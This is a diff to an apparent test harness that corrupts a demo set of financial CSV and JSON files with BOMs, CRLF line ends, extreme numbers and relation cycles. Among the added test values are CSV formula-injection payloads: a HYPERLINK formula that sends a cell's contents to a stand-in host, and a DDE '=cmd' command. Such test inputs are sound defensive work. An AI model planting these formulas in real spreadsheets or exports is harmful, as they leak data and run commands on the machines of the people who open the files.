@@ -38,6 +38,10 @@ CSV_KINDS = (
     "not_utf8",
     "empty_file",
     "drop_file",
+    "bom",
+    "crlf",
+    "formula",
+    "relation_cycle",
 )
 JSON_KINDS = ("truncate", "not_utf8", "empty_file", "drop_file", "field")
 # Values a person or a tool might leave in a cell: blanks, NaN words, out-of-range
@@ -70,7 +74,20 @@ CELL_VALUES = (
     "é",
     "x" * 300,
     "portfolio_margin;;cross_margin",
+    "-2.5",
+    "0.001",
+    "1e308",
+    "-1e308",
+    "1e16",
+    "1,000",
+    '=HYPERLINK("http://x.example","click")',
+    "=1+1",
+    "@SUM(A1:A9)",
+    "+1",
+    "\ufeffA01",
+    "A01\r",
 )
+FORMULAS = ('=HYPERLINK("http://x.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "@SUM(1+9)")
 JSON_VALUES = (None, "", "2026-06-31", "2026-6-30", "EUR", 20260630, [], {"a": 1}, "é")
 
 
@@ -83,6 +100,8 @@ class Case:
     kind: str
     detail: str
     data: bytes | None
+    also: tuple[tuple[str, bytes | None], ...] = ()
+    """Other files broken in the same case (several broken files at once)."""
 
     @property
     def id(self) -> str:
@@ -92,11 +111,12 @@ class Case:
     def apply(self, folder: Path) -> Path:
         """Copy the demo book to ``folder`` and plant this mutation in it."""
         shutil.copytree(DEMO, folder, ignore=shutil.ignore_patterns("__init__.py", "__pycache__"))
-        target = folder / self.file
-        if self.data is None:
-            target.unlink()
-        else:
-            target.write_bytes(self.data)
+        for name, data in ((self.file, self.data), *self.also):
+            target = folder / name
+            if data is None:
+                target.unlink(missing_ok=True)
+            else:
+                target.write_bytes(data)
         return folder
 
 
@@ -155,6 +175,18 @@ def _csv_case(
         return "zero bytes", b""
     if kind == "drop_file":
         return "file removed", None
+    if kind == "bom":
+        return "a UTF-8 byte order mark", b"\xef\xbb\xbf" + data
+    if kind == "crlf":
+        return "CRLF line ends", data.replace(b"\n", b"\r\n")
+    if kind == "formula" and rows:
+        rows[row][col] = rng.choice(FORMULAS)
+        return f"row {row + 2} {header[col]} a formula", _csv_bytes([header, *rows])
+    if kind == "relation_cycle":
+        a, b = rng.sample(pool, 2)
+        relation = rng.choice(("rehypothecated_to", "member_of", "affiliate_of", "guarantees"))
+        cycle = [[a, b, relation], [b, a, relation]]
+        return f"{a} <-> {b} {relation}", _csv_bytes([header, *rows, *cycle])
     return "header only", _csv_bytes([header])  # drop_rows, or a kind needing rows on none
 
 
@@ -182,14 +214,27 @@ def _json(value: object) -> str:
 def plan_case(seed: int, number: int, files: dict[str, bytes], pool: list[str]) -> Case:
     """Case ``number`` of ``seed``: it depends on nothing else, so it reproduces alone."""
     rng = random.Random(f"{seed}:{number}")
+    name, kind, detail, data = _one_file(rng, files, pool)
+    also: list[tuple[str, bytes | None]] = []
+    for _ in range(rng.choice((0, 0, 0, 0, 1, 2))):  # a third of the cases break more files
+        other, other_kind, other_detail, other_data = _one_file(rng, files, pool)
+        if other != name and other not in dict(also):
+            also.append((other, other_data))
+            detail += f"; {other} {other_kind}: {other_detail}"
+    return Case(number, name, kind, detail, data, tuple(also))
+
+
+def _one_file(
+    rng: random.Random, files: dict[str, bytes], pool: list[str]
+) -> tuple[str, str, str, bytes | None]:
     name = rng.choice(BOOK_FILES)
     if name == "book.json":
         kind = rng.choice(JSON_KINDS)
-        detail, data = _json_case(rng, kind, files[name])
-    else:
-        kind = rng.choice(CSV_KINDS)
-        detail, data = _csv_case(rng, kind, files[name], pool)
-    return Case(number=number, file=name, kind=kind, detail=detail, data=data)
+        return name, kind, *_json_case(rng, kind, files[name])
+    kind = rng.choice(CSV_KINDS)
+    if kind == "relation_cycle":
+        name = "relations.csv"
+    return name, kind, *_csv_case(rng, kind, files[name], pool)
 
 
 def plan_cases(seed: int, count: int) -> list[Case]:
@@ -201,12 +246,12 @@ def plan_cases(seed: int, count: int) -> list[Case]:
     files = {name: (DEMO / name).read_bytes() for name in BOOK_FILES}
     pool = _book_values(files)
     cases: list[Case] = []
-    seen: set[tuple[str, bytes | None]] = set()
+    seen: set[tuple[str, bytes | None, tuple[tuple[str, bytes | None], ...]]] = set()
     number = 0
     while len(cases) < count:
         case = plan_case(seed, number, files, pool)
         number += 1
-        if (case.file, case.data) not in seen:
-            seen.add((case.file, case.data))
+        if (case.file, case.data, case.also) not in seen:
+            seen.add((case.file, case.data, case.also))
             cases.append(case)
     return cases
